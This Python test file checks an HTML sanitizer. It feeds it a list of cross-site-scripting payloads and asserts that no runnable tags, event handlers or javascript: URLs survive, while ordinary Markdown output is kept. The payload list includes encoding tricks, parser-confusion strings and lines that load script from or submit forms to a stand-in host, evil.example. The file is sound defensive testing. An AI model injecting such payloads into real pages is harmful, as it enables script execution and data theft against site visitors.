from __future__ import annotations

from html.parser import HTMLParser

import pytest

from kb.sanitize import sanitize_html


class Inventory(HTMLParser):
    """Every tag and attribute of a fragment, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


def inventory(html: str) -> Inventory:
    parser = Inventory()
    parser.feed(html)
    return parser


HOSTILE = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload=alert(1)></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=p></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data=x></object><embed src=x>',
    '<style>body{display:none}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p id="__config">{"base": "//evil"}</p>',
    '<p id="__search">x</p>',
    '<details open ontoggle=alert(1)><summary>s</summary></details>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="x" target="_blank" onclick="steal()">x</a>',
    '<!--<script>alert(1)</script>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runnable_survives(html: str) -> None:
    found = inventory(sanitize_html(html))
    assert not set(found.tags) & {"script", "svg", "iframe", "form", "base", "meta", "object", "embed", "style", "math", "noscript"}
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name != "style"
        assert not value.strip().lower().replace("\t", "").startswith(("javascript:", "vbscript:", "data:")), value
        if name == "id":
            assert not value.startswith("__")


@pytest.mark.parametrize(
    "html",
    [
        '<h2 id="install">Install<a class="headerlink" href="#install" title="Permanent link">¶</a></h2>',
        '<div class="admonition tip"><p class="admonition-title">Tip</p><p>Text</p></div>',
        '<div class="highlight"><pre><span></span><code><span class="k">def</span></code></pre></div>',
        '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
        '<p><a href="../other/">rel</a> <a href="https://example.com/">abs</a> <a href="mailto:a@b.example">mail</a></p>',
        '<p><img alt="chart" src="../img/chart.png"></p>',
        '<a href="#__codelineno-0-1" id="__codelineno-0-1" name="__codelineno-0-1"></a>',
        '<details class="note"><summary>More</summary><p>x</p></details>',
        '<ul class="task-list"><li class="task-list-item"><input type="checkbox" disabled=""> a</li></ul>',
    ],
)
def test_ordinary_markdown_output_is_kept(html: str) -> None:
    assert inventory(sanitize_html(html)).attributes == inventory(html).attributes


def test_text_of_removed_markup_stays_readable() -> None:
    assert inventory(sanitize_html('<p>Check <a href="javascript:x()">the dashboard</a>.</p>')).text == "Check the dashboard."
